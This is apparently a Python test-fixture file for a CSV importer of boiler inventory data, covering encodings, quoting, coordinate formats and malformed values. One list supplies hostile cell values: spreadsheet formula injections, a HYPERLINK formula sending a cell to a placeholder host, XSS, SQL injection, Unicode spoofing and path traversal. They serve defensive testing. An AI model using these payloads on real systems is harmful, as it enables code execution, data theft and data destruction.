"""CSV and other texts: encodings, line ends, quotes, and the cells that clerks and attackers write."""

from corpus.entry import Shelf, bytes_of, text_of
from corpus.samples import HEADER, TABLE, csv_text

SHELF = Shelf()
refused, let_in, clean, either = SHELF.refused, SHELF.let_in, SHELF.clean, SHELF.either


def _table(*rows, header=HEADER, **options):
    return text_of(csv_text(rows, header, **options))


def _first(**change):
    """Return a file in which the first record has other cells, by header."""
    first = tuple(change.get(name, cell) for name, cell in zip(HEADER, TABLE[0], strict=True))
    return _table(first, *TABLE[1:])


def _places(*places, header=("经度", "纬度")):
    """Return a file with other places, as many records as there are places."""
    rows = [(f"B{at}", *TABLE[at % 3][1:6], *place) for at, place in enumerate(places, 1)]
    return _table(*rows, header=(*HEADER[:6], *header))


def _quoted(name):
    return f'"{name.replace(chr(34), chr(34) * 2)}"'


_TEXT = csv_text()
_NAMES = HEADER.index("单位名称")
_ZONES = [(f"356212{at}0.5", f"43199{at}0.5") for at in range(1, 4)]
_DMS = [("106°24'00.0\"E", "39°00'36.0\"N"), ("106°24'36\"E", "39°01'12\"N"), ("106°25'12\"E", "39°01'48\"N")]
_CHINESE_DMS = [("106度24分0秒", "39度0分36秒"), ("106度24分36秒", "39度1分12秒"), ("106度25分12秒", "39度1分48秒")]

clean("right.csv", text_of(_TEXT), 3)
clean("gbk.csv", text_of(_TEXT, "gbk"), 3, holds=("甲厂",))
clean("bom.csv", text_of(_TEXT, "utf-8-sig"), 3, holds=("甲厂",))
clean("utf16.csv", text_of(_TEXT, "utf-16"), 3, holds=("甲厂",))
clean("mac_ends.csv", text_of(csv_text(end="\r")), 3)
clean("semicolons.csv", text_of(csv_text(comma=";")), 3)
clean("tabs.csv", text_of(csv_text(comma="\t")), 3)
clean("tabs.txt", text_of(csv_text(comma="\t"), "gbk"), 3)
clean("blank_lines.csv", text_of(_TEXT.replace("\n", "\n\n,,,,,,,\n")), 3)
clean("quoted_newline.csv", text_of(_TEXT.replace("甲厂", '"甲\n厂"')), 3, holds=("甲\n厂",))
either("utf16_unmarked.csv", bytes_of(lambda: _TEXT.encode("utf-16-le")), None)
either(
    "big5.csv", bytes_of(lambda: csv_text().replace("天然气", "電").replace("热", "熱").encode("big5", "replace")), None
)
either(
    "mixed_encodings.csv", bytes_of(lambda: _TEXT.encode() + "B4,丁厂,煤,20,供热,在用,106.4,39.0\n".encode("gbk")), None
)
refused(
    "latin.csv",
    bytes_of(lambda: b"\xff\xfe\xfd\xfc\x80\x81" * 30 + b"\n"),
    "encoding",
    "text_nul",
    "no_coordinates",
    "file_empty",
)
refused("nul.csv", text_of(_TEXT.replace("甲厂", "甲\x00厂")), "text_nul", "file_broken")
refused("nul_only.csv", bytes_of(lambda: b"\x00" * 500), "text_nul", "file_broken", "file_empty", "encoding")
refused("header_only.csv", _table(), "file_empty")
refused("blanks_only.csv", text_of(" \n\t\n,,,\n"), "file_empty")
refused("bom_only.csv", bytes_of(lambda: b"\xef\xbb\xbf"), "file_empty")
refused("no_header.csv", text_of(_TEXT.split("\n", 1)[1]), "no_coordinates", "column_missing")
refused("prose.csv", text_of("石嘴山市住房和城乡建设局关于锅炉的通知。\n各县区：\n"), "no_coordinates", "file_empty")
refused("many_columns.csv", text_of(_TEXT.replace("纬度\n", "纬度" + ",x" * 100_000 + "\n")), "columns_too_many")
refused("giant_cell.csv", text_of(_TEXT.replace("甲厂", "厂" * 6_000_000)), "cell_too_long")
either("open_quote.csv", text_of(_TEXT.replace("乙厂", '"乙厂')), None)
either("quotes_within.csv", text_of(_TEXT.replace("甲厂", '甲"厂"')), 3)
let_in("long_row.csv", text_of(_TEXT.replace("39.01", "39.01,多")), 3, "row_overlong", used=2)
let_in("titled.csv", text_of("石嘴山市燃煤锅炉台账,,,\n填报单位：住建局\n" + _TEXT), 3, "header_below", used=3)
either("twice_header.csv", _table(*((*row, "x") for row in TABLE), header=(*HEADER, "单位名称")), 3)
either("python_header.csv", _table(*((*row, 1) for row in TABLE), header=(*HEADER, "{0.__class__}")), 3)
either("source_row_header.csv", _table(*((*row, 99) for row in TABLE), header=(*HEADER, "source_row")), 3)
either("geometry_header.csv", _table(*((*row, "x") for row in TABLE), header=(*HEADER, "geometry")), 3)
_HOSTILE = (
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}",
    "%s%n{0}{name}",
    "'; DROP TABLE boilers; --",
    "甲\u202egnp.厂",
    "甲\u200b\u200f厂",
    "[bold red]甲厂[/]",
    "../../../../etc/passwd",
    "🔥" * 40,
)
let_in(
    "hostile.csv",
    _table(*((f"B{at}", _quoted(said), *TABLE[0][2:]) for at, said in enumerate(_HOSTILE))),
    len(_HOSTILE),
    used=len(_HOSTILE),
    holds=_HOSTILE,
)
either("control.csv", _first(单位名称="甲\x07\x1b[31m厂\x08"), 3)
either("line_separator.csv", _first(单位名称="甲\u2028厂\x85\x0c"), 3)
clean("dms.csv", _places(*((_quoted(x), _quoted(y)) for x, y in _DMS)), 3)
clean("dms_chinese.csv", _places(*_CHINESE_DMS), 3)
let_in("zero.csv", _places((0, 0), (106.4, 39.0), (106.41, 39.0)), 3, "geometry_missing", used=2)
let_in("swapped.csv", _places(*((y, x) for *_, x, y in TABLE)), 3, "axes_swapped", used=3)
let_in("one_swapped.csv", _places((39.01, 106.40), (106.41, 39.02), (106.42, 39.03)), 3, "row_swapped", used=2)
let_in("off_globe.csv", _places((106.4, 139), (106.41, 39.02), (106.42, 39.03)), 3, "coordinates_off_globe", used=2)
refused("zone_prefixed.csv", _places(*_ZONES), "crs_missing", "crs_contradicted")
clean(
    "zone_prefixed_said.csv",
    _places(*((x, y.replace("43199", "43198")) for x, y in _ZONES)),
    3,
    options={"crs": "EPSG:4523"},
)
refused("zone_plain.csv", _places(*((x[2:], y) for x, y in _ZONES)), "crs_missing", "crs_contradicted")
refused("no_places.csv", _table(*(row[:6] for row in TABLE), header=HEADER[:6]), "no_coordinates")
refused("wkt_broken.csv", _table(("B1", "甲厂", "POINT (106.4"), header=("编号", "单位名称", "WKT")), "no_row_usable")
let_in(
    "wkt_nested.csv",
    _table(
        ("B1", "甲厂", "GEOMETRYCOLLECTION(" * 3000),
        ("B2", "乙厂", "POINT (106.4 39)"),
        header=("编号", "单位名称", "WKT"),
    ),
    2,
    "shape_unreadable",
    used=1,
)
let_in("total.csv", text_of(_TEXT + "合计,,,65,,,,\n"), 4, "row_total", used=3)
clean("total_place.csv", _first(单位名称="全市合计热力公司"), 3, holds=("全市合计热力公司",))
let_in("same_identifier.csv", _table(TABLE[0], TABLE[0], TABLE[2]), 3, "id_duplicate", used=2)
let_in("identifier_power.csv", _first(锅炉编号="6.40202E+17"), 3, "id_broken")
let_in("about.csv", _first(蒸吨="约35"), 3, "value_approximate", used=3)
let_in("range.csv", _first(蒸吨="10-15"), 3, "value_range", used=3)
let_in("giant_digits.csv", _first(蒸吨="9" * 5_000), 3, used=3)
let_in("full_width.csv", _first(蒸吨="２０"), 3, used=3)
let_in("unknown_fuel.csv", _first(燃料种类="魔法石"), 3, "value_unknown", used=3)
let_in(
    "years.csv",
    _table(
        *((*row, year) for row, year in zip(TABLE, ("2023.6", "45078", "二〇二三"), strict=True)),
        header=(*HEADER, "投运年份"),
    ),
    3,
    used=3,
)
let_in(
    "codes.csv",
    _table(
        ("6.40202E+11", "甲村", "111", 106.4, 39),
        ("640202001002", "乙村", "111", 106.4, 39),
        header=("code", "name", "城乡分类", "经度", "纬度"),
    ),
    2,
    "code_broken",
    layer="villages",
    used=1,
)
